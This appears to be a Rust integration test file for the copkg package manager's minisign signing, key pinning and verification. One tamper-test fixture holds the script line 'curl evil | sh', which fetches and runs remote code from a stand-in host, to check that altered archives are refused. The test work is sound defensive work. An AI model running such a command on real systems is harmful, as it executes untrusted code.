//! Signed repositories end to end: minisign signatures made by the real
//! `minisign` and by `copkg pack --sign`, checked by copkg and by `minisign
//! -V`; every refusal (exit 10) leaves nothing in the store; the config
//! keys `publicKeys`, `signatures` and `checksum`.

mod common;

use std::path::{Path, PathBuf};
use std::process::Command;

use common::*;

const SIGNATURE_PATH: &str = "com/example/hello/1.0.0/hello-1.0.0-copkg.tar.gz.minisig";

/// A minisign key pair.
struct Key {
    /// The base64 line `publicKeys` takes.
    public: String,
    /// The key id as minisign prints it.
    id: String,
    secret_file: PathBuf,
    public_file: PathBuf,
}

impl Key {
    fn from_files(public_file: PathBuf, secret_file: PathBuf) -> Key {
        let text = std::fs::read_to_string(&public_file).unwrap();
        let mut lines = text.lines();
        let comment = lines.next().unwrap();
        let id = comment.rsplit(' ').next().unwrap().to_owned();
        assert!(id.bytes().all(|b| b.is_ascii_hexdigit()), "{comment}");
        Key {
            public: lines.next().unwrap().to_owned(),
            id,
            secret_file,
            public_file,
        }
    }
}

/// A key pair made by the real minisign, unencrypted (`-W`).
fn minisign_key(sb: &Sandbox, name: &str) -> Key {
    let (public, secret) = (
        sb.path().join(format!("{name}.pub")),
        sb.path().join(format!("{name}.key")),
    );
    let out = run(Command::new("minisign")
        .args(["-G", "-W", "-p"])
        .arg(&public)
        .arg("-s")
        .arg(&secret));
    assert_eq!(
        out.code, 0,
        "minisign -G (apt-get install minisign): {out:?}"
    );
    Key::from_files(public, secret)
}

/// Signs `file` with the real minisign (prehashed, its default trusted
/// comment `timestamp:… file:NAME hashed`), writing `signature`.
fn minisign_sign(key: &Key, file: &Path, signature: &Path, extra: &[&str]) {
    let out = run(Command::new("minisign")
        .arg("-S")
        .arg("-s")
        .arg(&key.secret_file)
        .arg("-m")
        .arg(file)
        .arg("-x")
        .arg(signature)
        .args(extra)
        .stdin(std::process::Stdio::null()));
    assert_eq!(out.code, 0, "minisign -S: {out:?}");
}

fn archive(sb: &Sandbox) -> PathBuf {
    sb.repo().join(ARCHIVE_PATH)
}

fn signature(sb: &Sandbox) -> PathBuf {
    sb.repo().join(SIGNATURE_PATH)
}

/// Publishes the good archive with its sidecar, signed by `key` with minisign.
fn publish_signed(sb: &Sandbox, key: &Key) {
    sb.publish_verified(&good_archive());
    minisign_sign(key, &archive(sb), &signature(sb), &[]);
}

/// Writes a config file into the sandbox.
fn config(sb: &Sandbox, json: &str) -> PathBuf {
    let path = sb.path().join("config.json");
    std::fs::write(&path, json).unwrap();
    path
}

/// A config with one HTTP repository entry, `extra` added to the entry.
fn repo_config(server: &StaticServer, extra: &str) -> String {
    format!(
        r#"{{"repositories": [{{"url": "{}"{extra}}}]}}"#,
        server.url
    )
}

fn keys_json(keys: &[&Key]) -> String {
    let quoted: Vec<String> = keys.iter().map(|k| format!("\"{}\"", k.public)).collect();
    format!("[{}]", quoted.join(", "))
}

/// `copkg --config FILE install COORD` (repositories from the config).
fn install(sb: &Sandbox, json: &str) -> Output {
    let config = config(sb, json);
    run(sb
        .copkg()
        .arg("--config")
        .arg(&config)
        .args(["install", COORD]))
}

/// `install` under `--dry-run`: asks the repositories, changes nothing.
fn dry_install(sb: &Sandbox, json: &str) -> Output {
    let config = config(sb, json);
    let out = run(sb
        .copkg()
        .arg("--config")
        .arg(&config)
        .args(["--dry-run", "install", COORD]));
    assert_nothing_installed(sb);
    out
}

/// The install dir's completion marker.
fn marker(sb: &Sandbox) -> serde_json::Value {
    serde_json::from_slice(&std::fs::read(sb.install_dir().join(".copkg-install.json")).unwrap())
        .unwrap()
}

/// Nothing of the package is visible, and no temp dir or file is left.
fn assert_nothing_installed(sb: &Sandbox) {
    assert!(!sb.install_dir().exists(), "the package became visible");
    assert!(
        !sb.tree().iter().any(|p| p.starts_with("software/com")),
        "{:?}",
        sb.tree()
    );
    for scratch in ["tmp", "trash"] {
        let dir = sb.root().join(".copkg").join(scratch);
        let left: Vec<_> = std::fs::read_dir(&dir)
            .map(|d| d.map(|e| e.unwrap().file_name()).collect())
            .unwrap_or_default();
        assert!(left.is_empty(), "leftovers in {}: {left:?}", dir.display());
    }
}

/// Asserts a refusal: exit 10, every one of `needles` in the message.
fn assert_refused(out: &Output, needles: &[&str]) {
    assert_eq!(out.code, 10, "{out:?}");
    for needle in needles {
        assert!(
            out.stderr.contains(needle),
            "no `{needle}` in: {}",
            out.stderr
        );
    }
}

#[test]
fn a_package_signed_by_minisign_installs_from_an_http_repository() {
    let sb = Sandbox::new();
    let key = minisign_key(&sb, "a");
    publish_signed(&sb, &key);
    let server = StaticServer::start(&sb.repo());
    let json = repo_config(
        &server,
        &format!(r#", "publicKeys": {}"#, keys_json(&[&key])),
    );
    // The dry run names the key the signature is by.
    let dry = dry_install(&sb, &json);
    assert_eq!(dry.code, 0, "{dry:?}");
    assert!(
        dry.stdout.contains(&format!("signature by key {}", key.id)),
        "{dry:?}"
    );
    let out = install(&sb, &json);
    assert_eq!(out.code, 0, "{out:?}");
    let record = marker(&sb);
    assert_eq!(record["signed_by"], key.id.as_str());
    assert_eq!(record["verified"], true);
    assert_eq!(
        std::fs::read_to_string(sb.install_dir().join("bin/hello")).unwrap(),
        "#!/bin/sh\necho hello\n"
    );
}

#[test]
fn what_copkg_signs_minisign_verifies_and_copkg_installs() {
    let sb = Sandbox::new();
    let prefix = sb.path().join("release");
    let out = run(sb.copkg().args(["keygen", "--out"]).arg(&prefix));
    assert_eq!(out.code, 0, "{out:?}");
    // No terminal, no COPKG_KEY_PASSWORD: unencrypted, and said so.
    assert!(out.stderr.contains("unencrypted"), "{out:?}");
    let key = Key::from_files(prefix.with_extension("pub"), prefix.with_extension("key"));
    assert!(out.stdout.contains(&key.id), "{out:?}");
    assert!(out.stdout.contains(&key.public), "{out:?}");
    use std::os::unix::fs::PermissionsExt;
    let mode = std::fs::metadata(&key.secret_file)
        .unwrap()
        .permissions()
        .mode();
    assert_eq!(mode & 0o777, 0o600);

    let out = run(sb
        .copkg()
        .arg("pack")
        .arg(example_dir("hello"))
        .args(["--coordinate", COORD, "--out"])
        .arg(sb.repo())
        .arg("--sign")
        .arg(&key.secret_file));
    assert_eq!(out.code, 0, "{out:?}");
    assert!(
        out.stdout.contains(&format!("signed by key {}", key.id)),
        "{out:?}"
    );
    // The signature is published with the archive and its sidecar, and
    // nothing else (no staging dir left).
    let mut files: Vec<_> = std::fs::read_dir(archive(&sb).parent().unwrap())
        .unwrap()
        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .collect();
    files.sort();
    assert_eq!(
        files,
        [
            "hello-1.0.0-copkg.tar.gz",
            "hello-1.0.0-copkg.tar.gz.minisig",
            "hello-1.0.0-copkg.tar.gz.sha256"
        ]
    );
    let staging: Vec<_> = std::fs::read_dir(sb.repo())
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .filter(|n| n.to_string_lossy().starts_with(".copkg-pack"))
        .collect();
    assert!(staging.is_empty(), "{staging:?}");

    let out = run(Command::new("minisign")
        .arg("-V")
        .arg("-p")
        .arg(&key.public_file)
        .arg("-m")
        .arg(archive(&sb)));
    assert_eq!(out.code, 0, "minisign -V: {out:?}");
    assert!(
        out.stdout.contains("file:hello-1.0.0-copkg.tar.gz"),
        "{out:?}"
    );
    // `-H` accepts only prehashed signatures.
    let out = run(Command::new("minisign")
        .args(["-V", "-H", "-p"])
        .arg(&key.public_file)
        .arg("-m")
        .arg(archive(&sb)));
    assert_eq!(out.code, 0, "minisign -V -H: {out:?}");

    let server = StaticServer::start(&sb.repo());
    let json = repo_config(
        &server,
        &format!(r#", "publicKeys": {}"#, keys_json(&[&key])),
    );
    let out = install(&sb, &json);
    assert_eq!(out.code, 0, "{out:?}");
    assert_eq!(marker(&sb)["signed_by"], key.id.as_str());

    // A key copkg made signs for minisign too.
    let file = sb.path().join("notes.txt");
    std::fs::write(&file, "release notes\n").unwrap();
    let sig = sb.path().join("notes.txt.minisig");
    minisign_sign(&key, &file, &sig, &[]);
    let out = run(Command::new("minisign")
        .arg("-V")
        .arg("-p")
        .arg(&key.public_file)
        .arg("-m")
        .arg(&file));
    assert_eq!(out.code, 0, "{out:?}");
}

#[test]
fn a_key_made_by_minisign_signs_with_copkg_pack() {
    let sb = Sandbox::new();
    let key = minisign_key(&sb, "m");
    let out = run(sb
        .copkg()
        .arg("pack")
        .arg(example_dir("hello"))
        .args(["--coordinate", COORD, "--out"])
        .arg(sb.repo())
        .arg("--sign")
        .arg(&key.secret_file));
    assert_eq!(out.code, 0, "{out:?}");
    let out = run(Command::new("minisign")
        .arg("-V")
        .arg("-p")
        .arg(&key.public_file)
        .arg("-m")
        .arg(archive(&sb)));
    assert_eq!(out.code, 0, "{out:?}");
    let out = run(sb
        .copkg()
        .arg("--config")
        .arg(config(
            &sb,
            &format!(r#"{{"publicKeys": {}}}"#, keys_json(&[&key])),
        ))
        .arg("--repo")
        .arg(sb.repo())
        .args(["install", COORD]));
    assert_eq!(out.code, 0, "{out:?}");
    assert_eq!(marker(&sb)["signed_by"], key.id.as_str());
}

#[test]
fn an_encrypted_key_needs_its_password() {
    let sb = Sandbox::new();
    let prefix = sb.path().join("enc");
    let out = run(sb
        .copkg()
        .env("COPKG_KEY_PASSWORD", "correct horse")
        .args(["keygen", "--out"])
        .arg(&prefix));
    assert_eq!(out.code, 0, "{out:?}");
    assert!(out.stdout.contains("(encrypted)"), "{out:?}");
    let key = Key::from_files(prefix.with_extension("pub"), prefix.with_extension("key"));
    // minisign opens it with the same password.
    let file = sb.path().join("f.txt");
    std::fs::write(&file, "x").unwrap();
    let mut child = Command::new("minisign")
        .arg("-S")
        .arg("-s")
        .arg(&key.secret_file)
        .arg("-m")
        .arg(&file)
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    use std::io::Write;
    child
        .stdin
        .take()
        .unwrap()
        .write_all(b"correct horse\n")
        .unwrap();
    assert!(
        child.wait().unwrap().success(),
        "minisign -S with the password"
    );

    let pack = |password: Option<&str>| {
        let mut cmd = sb.copkg();
        cmd.arg("pack")
            .arg(example_dir("hello"))
            .args(["--coordinate", COORD, "--out"])
            .arg(sb.repo())
            .arg("--sign")
            .arg(&key.secret_file);
        if let Some(password) = password {
            cmd.env("COPKG_KEY_PASSWORD", password);
        }
        run(&mut cmd)
    };
    for (password, message) in [
        (None, "is encrypted: set COPKG_KEY_PASSWORD"),
        (Some("wrong"), "wrong password for the secret key"),
    ] {
        let out = pack(password);
        assert_eq!(out.code, 2, "{out:?}");
        assert!(out.stderr.contains(message), "{out:?}");
        assert!(
            !sb.repo().exists(),
            "a refused pack wrote into the repository"
        );
    }
    // A password file (a CI secret) does as well.
    let password_file = sb.path().join("password");
    std::fs::write(&password_file, "correct horse\n").unwrap();
    let out = run(sb
        .copkg()
        .env("COPKG_KEY_PASSWORD_FILE", &password_file)
        .arg("pack")
        .arg(example_dir("hello"))
        .args(["--coordinate", COORD, "--out"])
        .arg(sb.repo())
        .arg("--sign")
        .arg(&key.secret_file));
    assert_eq!(out.code, 0, "{out:?}");
    std::fs::remove_dir_all(sb.repo()).unwrap();
    let out = pack(Some("correct horse"));
    assert_eq!(out.code, 0, "{out:?}");
    let out = run(Command::new("minisign")
        .arg("-V")
        .arg("-p")
        .arg(&key.public_file)
        .arg("-m")
        .arg(archive(&sb)));
    assert_eq!(out.code, 0, "{out:?}");
}

#[test]
fn keygen_never_overwrites_a_key() {
    let sb = Sandbox::new();
    let prefix = sb.path().join("k");
    std::fs::write(prefix.with_extension("key"), "precious").unwrap();
    let out = run(sb.copkg().args(["keygen", "--out"]).arg(&prefix));
    assert_eq!(out.code, 1, "{out:?}");
    assert!(out.stderr.contains("k.key already exists"), "{out:?}");
    // Refused before asking anything, and nothing written.
    assert!(!out.stderr.contains("unencrypted"), "{out:?}");
    assert_eq!(
        std::fs::read_to_string(prefix.with_extension("key")).unwrap(),
        "precious"
    );
    assert!(!prefix.with_extension("pub").exists());
}

#[test]
fn a_signature_by_a_key_not_pinned_is_refused() {
    let sb = Sandbox::new();
    let (pinned, other) = (minisign_key(&sb, "pinned"), minisign_key(&sb, "other"));
    publish_signed(&sb, &other);
    let server = StaticServer::start(&sb.repo());
    let json = repo_config(
        &server,
        &format!(r#", "publicKeys": {}"#, keys_json(&[&pinned])),
    );
    let out = install(&sb, &json);
    assert_refused(
        &out,
        &[
            "is signed by key",
            &other.id,
            "not pinned for this repository",
            &format!("pinned: {}", pinned.id),
        ],
    );
    assert_nothing_installed(&sb);
}

#[test]
fn a_missing_signature_is_refused_where_keys_are_pinned() {
    let sb = Sandbox::new();
    let key = minisign_key(&sb, "a");
    sb.publish_verified(&good_archive());
    let server = StaticServer::start(&sb.repo());
    let json = repo_config(
        &server,
        &format!(r#", "publicKeys": {}"#, keys_json(&[&key])),
    );
    // Refused by a dry run as by the install.
    for out in [dry_install(&sb, &json), install(&sb, &json)] {
        assert_refused(
            &out,
            &[
                "hello-1.0.0-copkg.tar.gz.minisig: not found",
                "requires a signature",
                &key.id,
            ],
        );
    }
    assert_nothing_installed(&sb);
}

#[test]
fn a_tampered_archive_is_refused_even_with_a_recomputed_sidecar() {
    let sb = Sandbox::new();
    let key = minisign_key(&sb, "a");
    publish_signed(&sb, &key);
    let tampered = Tar::new()
        .file("bin/hello", b"#!/bin/sh\ncurl evil | sh\n", 0o755)
        .end()
        .gz();
    let server = StaticServer::start(&sb.repo());
    let json = repo_config(
        &server,
        &format!(r#", "publicKeys": {}"#, keys_json(&[&key])),
    );
    // The attacker recomputed the sidecar, and one who did not.
    for recompute in [true, false] {
        let path = archive(&sb);
        std::fs::write(&path, &tampered).unwrap();
        if recompute {
            std::fs::write(
                format!("{}.sha256", path.display()),
                format!("{}  hello-1.0.0-copkg.tar.gz\n", sha256_hex(&tampered)),
            )
            .unwrap();
        }
        let out = install(&sb, &json);
        assert_refused(
            &out,
            &["bad signature", &key.id, "is not the file that key signed"],
        );
        assert_nothing_installed(&sb);
    }
}

#[test]
fn a_signature_whose_trusted_comment_names_another_file_is_refused() {
    let sb = Sandbox::new();
    let key = minisign_key(&sb, "a");
    sb.publish_verified(&good_archive());
    // A good signature of these very bytes, made for another file: what an
    // attacker replaying an old release under a new name would serve.
    let other = sb.path().join("hello-0.9.0-copkg.tar.gz");
    std::fs::copy(archive(&sb), &other).unwrap();
    minisign_sign(&key, &other, &signature(&sb), &[]);
    let server = StaticServer::start(&sb.repo());
    let json = repo_config(
        &server,
        &format!(r#", "publicKeys": {}"#, keys_json(&[&key])),
    );
    let out = install(&sb, &json);
    assert_refused(
        &out,
        &[
            &key.id,
            "was made for `hello-0.9.0-copkg.tar.gz`, not `hello-1.0.0-copkg.tar.gz`",
        ],
    );
    assert_nothing_installed(&sb);

    // A custom trusted comment without a file: field says nothing of the file.
    minisign_sign(
        &key,
        &archive(&sb),
        &signature(&sb),
        &["-t", "release 1.0.0 by CI"],
    );
    let out = install(&sb, &json);
    assert_eq!(out.code, 0, "{out:?}");
}

#[test]
fn malformed_and_legacy_signatures_are_refused() {
    let sb = Sandbox::new();
    let key = minisign_key(&sb, "a");
    publish_signed(&sb, &key);
    let server = StaticServer::start(&sb.repo());
    let json = repo_config(
        &server,
        &format!(r#", "publicKeys": {}"#, keys_json(&[&key])),
    );
    let good = std::fs::read_to_string(signature(&sb)).unwrap();
    let cases = [
        ("garbage\n".to_owned(), "malformed signature"),
        (
            good.replacen("\ntrusted comment: ", "\ncomment: ", 1),
            "not a trusted comment",
        ),
        (
            good.lines().take(2).collect::<Vec<_>>().join("\n"),
            "not four lines",
        ),
    ];
    for (text, message) in cases {
        std::fs::write(signature(&sb), text).unwrap();
        let out = install(&sb, &json);
        assert_refused(
            &out,
            &[
                "malformed signature",
                "hello-1.0.0-copkg.tar.gz.minisig",
                message,
            ],
        );
        assert_nothing_installed(&sb);
    }
    // A legacy signature (`minisign -l`) would need the archive in memory.
    minisign_sign(&key, &archive(&sb), &signature(&sb), &["-l"]);
    let out = install(&sb, &json);
    assert_refused(&out, &["legacy (not prehashed) signature", &key.id]);
    assert_nothing_installed(&sb);
}

#[test]
fn a_rotated_key_installs_while_both_are_pinned() {
    let sb = Sandbox::new();
    let (old, new) = (minisign_key(&sb, "old"), minisign_key(&sb, "new"));
    publish_signed(&sb, &new);
    let server = StaticServer::start(&sb.repo());
    let json = repo_config(
        &server,
        &format!(r#", "publicKeys": {}"#, keys_json(&[&old, &new])),
    );
    let out = install(&sb, &json);
    assert_eq!(out.code, 0, "{out:?}");
    assert_eq!(marker(&sb)["signed_by"], new.id.as_str());
    // resolve and list say which key signed it, and what is asked for.
    let resolved = run(sb
        .copkg()
        .arg("--config")
        .arg(sb.path().join("config.json"))
        .args(["resolve", COORD]));
    assert_eq!(resolved.code, 0, "{resolved:?}");
    assert!(
        resolved
            .stdout
            .contains(&format!("signed by key {}", new.id)),
        "{resolved:?}"
    );
    assert!(
        resolved.stdout.contains(&format!(
            "signature: {}/{SIGNATURE_PATH} (required, keys {}, {})",
            server.url, old.id, new.id
        )),
        "{resolved:?}"
    );
    let listed = run(sb.copkg().args(["--json", "list"]));
    let listed: serde_json::Value = serde_json::from_str(listed.stdout.trim()).unwrap();
    assert_eq!(listed["signed_by"], new.id.as_str());
}

#[test]
fn a_repository_s_own_keys_beat_the_top_level_keys() {
    let sb = Sandbox::new();
    let (top, own) = (minisign_key(&sb, "top"), minisign_key(&sb, "own"));
    publish_signed(&sb, &top);
    let server = StaticServer::start(&sb.repo());
    let json = |entry_keys: &Key| {
        format!(
            r#"{{"publicKeys": {}, "repositories": [{{"url": "{}", "publicKeys": {}}}]}}"#,
            keys_json(&[&top]),
            server.url,
            keys_json(&[entry_keys])
        )
    };
    let out = install(&sb, &json(&own));
    assert_refused(
        &out,
        &[&top.id, "not pinned", &format!("pinned: {}", own.id)],
    );
    assert_nothing_installed(&sb);
    // An entry without keys of its own takes the top level's.
    let inherited = format!(
        r#"{{"publicKeys": {}, "repositories": [{{"url": "{}"}}]}}"#,
        keys_json(&[&top]),
        server.url
    );
    let out = install(&sb, &inherited);
    assert_eq!(out.code, 0, "{out:?}");
    assert_eq!(marker(&sb)["signed_by"], top.id.as_str());
}

#[test]
fn top_level_keys_apply_to_repo_flags_and_package_base_url() {
    let sb = Sandbox::new();
    let key = minisign_key(&sb, "a");
    sb.publish_verified(&good_archive());
    let server = StaticServer::start(&sb.repo());
    let keys = keys_json(&[&key]);
    // Unsigned: refused through --repo and through packageBaseUrl.
    let out = sb.install_with_config(&format!(r#"{{"publicKeys": {keys}}}"#));
    assert_refused(&out, &["requires a signature", &key.id]);
    let out = install(
        &sb,
        &format!(
            r#"{{"publicKeys": {keys}, "packageBaseUrl": "{}"}}"#,
            server.url
        ),
    );
    assert_refused(&out, &["requires a signature", &key.id]);
    assert_nothing_installed(&sb);
    minisign_sign(&key, &archive(&sb), &signature(&sb), &[]);
    let out = install(
        &sb,
        &format!(
            r#"{{"publicKeys": {keys}, "packageBaseUrl": "{}"}}"#,
            server.url
        ),
    );
    assert_eq!(out.code, 0, "{out:?}");
    assert_eq!(marker(&sb)["signed_by"], key.id.as_str());
}

#[test]
fn if_present_installs_unsigned_archives_and_still_refuses_bad_signatures() {
    let sb = Sandbox::new();
    let key = minisign_key(&sb, "a");
    sb.publish_verified(&good_archive());
    let server = StaticServer::start(&sb.repo());
    let json = repo_config(
        &server,
        &format!(
            r#", "publicKeys": {}, "signatures": "if-present""#,
            keys_json(&[&key])
        ),
    );
    let out = install(&sb, &json);
    assert_eq!(out.code, 0, "{out:?}");
    assert!(marker(&sb).get("signed_by").is_none(), "{}", marker(&sb));
    run(sb.copkg().args(["uninstall", COORD]));

    // A signature that is there is checked.
    let other = minisign_key(&sb, "other");
    minisign_sign(&other, &archive(&sb), &signature(&sb), &[]);
    let out = install(&sb, &json);
    assert_refused(&out, &[&other.id, "not pinned"]);
    assert_nothing_installed(&sb);
}

#[test]
fn off_ignores_even_a_bad_signature() {
    let sb = Sandbox::new();
    let key = minisign_key(&sb, "a");
    sb.publish_verified(&good_archive());
    std::fs::write(signature(&sb), "garbage\n").unwrap();
    let server = StaticServer::start(&sb.repo());
    let json = repo_config(
        &server,
        &format!(
            r#", "publicKeys": {}, "signatures": "off""#,
            keys_json(&[&key])
        ),
    );
    let out = install(&sb, &json);
    assert_eq!(out.code, 0, "{out:?}");
    assert!(marker(&sb).get("signed_by").is_none());
    // No keys anywhere: an unsigned repository works as before, quietly.
    run(sb.copkg().args(["uninstall", COORD]));
    let out = install(&sb, &repo_config(&server, ""));
    assert_eq!(out.code, 0, "{out:?}");
    assert_eq!(out.stderr, "");
}

#[test]
fn a_checked_signature_stands_in_for_a_missing_sidecar() {
    let sb = Sandbox::new();
    let key = minisign_key(&sb, "a");
    sb.publish(&good_archive(), None);
    minisign_sign(&key, &archive(&sb), &signature(&sb), &[]);
    let server = StaticServer::start(&sb.repo());
    let json = repo_config(
        &server,
        &format!(r#", "publicKeys": {}"#, keys_json(&[&key])),
    );
    let out = install(&sb, &json);
    assert_eq!(out.code, 0, "{out:?}");
    assert_eq!(marker(&sb)["verified"], true);
    assert_eq!(marker(&sb)["signed_by"], key.id.as_str());
}

#[test]
fn checksum_may_be_set_per_repository() {
    let sb = Sandbox::new();
    sb.publish(&good_archive(), None);
    let server = StaticServer::start(&sb.repo());
    let out = install(&sb, &repo_config(&server, ""));
    assert_eq!(out.code, 3, "{out:?}");
    assert!(
        out.stderr.contains("a checksum sidecar is required"),
        "{out:?}"
    );
    // The entry's own `if-present` beats the top level's `required`.
    let json = format!(
        r#"{{"checksum": "required", "repositories": [{{"url": "{}", "checksum": "if-present"}}]}}"#,
        server.url
    );
    let out = install(&sb, &json);
    assert_eq!(out.code, 0, "{out:?}");
    assert_eq!(marker(&sb)["verified"], false);
}

#[test]
fn a_signed_zip_is_checked_before_it_is_unpacked() {
    let sb = Sandbox::new();
    let key = minisign_key(&sb, "a");
    sb.publish_zip_verified(&good_zip());
    let zip = sb.repo().join(ZIP_PATH);
    let zip_signature = PathBuf::from(format!("{}.minisig", zip.display()));
    minisign_sign(&key, &zip, &zip_signature, &[]);
    let server = StaticServer::start(&sb.repo());
    let json = repo_config(
        &server,
        &format!(r#", "publicKeys": {}"#, keys_json(&[&key])),
    );
    let out = install(&sb, &json);
    assert_eq!(out.code, 0, "{out:?}");
    assert_eq!(marker(&sb)["signed_by"], key.id.as_str());
    run(sb.copkg().args(["uninstall", COORD]));

    // Another zip with a recomputed sidecar.
    let mut other = Zip::new();
    other.file("bin/hello", b"#!/bin/sh\necho evil\n", 0o755);
    sb.publish_zip_verified(&other.bytes());
    let out = install(&sb, &json);
    assert_refused(&out, &["bad signature", &key.id, "hello-1.0.0-copkg.zip"]);
    assert_nothing_installed(&sb);
}

#[test]
fn bad_signature_settings_are_usage_errors_naming_the_key() {
    let sb = Sandbox::new();
    sb.publish_verified(&good_archive());
    let cases = [
        (
            r#"{"publicKeys": ["not base64!"]}"#.to_owned(),
            vec!["`publicKeys`", "entry 1: not base64"],
        ),
        (
            r#"{"repositories": [{"url": "http://127.0.0.1:9", "publicKeys": ["Zm9vYmFy"]}]}"#
                .to_owned(),
            vec![
                "`publicKeys` of repositories[0]",
                "not a minisign public key",
            ],
        ),
        (
            r#"{"signatures": "sometimes"}"#.to_owned(),
            vec!["`signatures`"],
        ),
        (
            r#"{"repositories": [{"url": "http://127.0.0.1:9", "signatures": "maybe"}]}"#
                .to_owned(),
            vec!["`signatures`"],
        ),
        (
            r#"{"signatures": "required"}"#.to_owned(),
            vec!["`signatures`", "`required` needs publicKeys"],
        ),
        (
            r#"{"repositories": [{"url": "http://127.0.0.1:9", "checksum": "never"}]}"#.to_owned(),
            vec!["`checksum`"],
        ),
    ];
    for (json, needles) in cases {
        let out = sb.install_with_config(&json);
        assert_eq!(out.code, 2, "{json}: {out:?}");
        for needle in needles {
            assert!(
                out.stderr.contains(needle),
                "{json}: no `{needle}` in {}",
                out.stderr
            );
        }
        assert_nothing_installed(&sb);
    }
    // Two entries with one key id.
    let key = minisign_key(&sb, "a");
    let json = format!(r#"{{"publicKeys": {}}}"#, keys_json(&[&key, &key]));
    let out = sb.install_with_config(&json);
    assert_eq!(out.code, 2, "{out:?}");
    assert!(
        out.stderr
            .contains(&format!("entries 1 and 2 have the same key id {}", key.id)),
        "{out:?}"
    );
}

#[test]
fn a_republish_without_sign_never_leaves_a_stale_signature() {
    let sb = Sandbox::new();
    let key = minisign_key(&sb, "a");
    let pack = |dir: &Path, extra: &[&std::ffi::OsStr]| {
        run(sb
            .copkg()
            .arg("pack")
            .arg(dir)
            .args(["--coordinate", COORD, "--out"])
            .arg(sb.repo())
            .args(extra))
    };
    let out = pack(
        &example_dir("hello"),
        &["--sign".as_ref(), key.secret_file.as_os_str()],
    );
    assert_eq!(out.code, 0, "{out:?}");
    let published = std::fs::read(archive(&sb)).unwrap();
    let other = sb.path().join("other");
    std::fs::create_dir_all(other.join("bin")).unwrap();
    std::fs::write(other.join("bin/x"), "other\n").unwrap();
    let out = pack(&other, &["--force".as_ref()]);
    assert_eq!(out.code, 1, "{out:?}");
    assert!(out.stderr.contains("is signed"), "{out:?}");
    assert_eq!(std::fs::read(archive(&sb)).unwrap(), published);
    // The same bytes again keep their signature.
    let out = pack(&example_dir("hello"), &[]);
    assert_eq!(out.code, 0, "{out:?}");
    let out = run(Command::new("minisign")
        .arg("-V")
        .arg("-p")
        .arg(&key.public_file)
        .arg("-m")
        .arg(archive(&sb)));
    assert_eq!(out.code, 0, "{out:?}");
}

#[test]
fn a_lua_fetch_checks_the_signature_too() {
    let sb = Sandbox::new();
    let (key, other) = (minisign_key(&sb, "a"), minisign_key(&sb, "b"));
    publish_signed(&sb, &other);
    let script = sb.path().join("fetch.lua");
    std::fs::write(
        &script,
        format!(
            "local f = copkg.fetch('{COORD}', '{}')\nprint(f.signed_by)\n",
            sb.path().join("fetched.tar.gz").display()
        ),
    )
    .unwrap();
    let json = format!(r#"{{"publicKeys": {}}}"#, keys_json(&[&key]));
    let run_script = || {
        run(sb
            .copkg()
            .arg("--config")
            .arg(config(&sb, &json))
            .arg("--repo")
            .arg(sb.repo())
            .arg("run")
            .arg(&script))
    };
    let out = run_script();
    assert_refused(&out, &[&other.id, "not pinned"]);
    assert!(!sb.path().join("fetched.tar.gz").exists());
    minisign_sign(&key, &archive(&sb), &signature(&sb), &[]);
    let out = run_script();
    assert_eq!(out.code, 0, "{out:?}");
    assert_eq!(out.stdout.trim(), key.id);
}
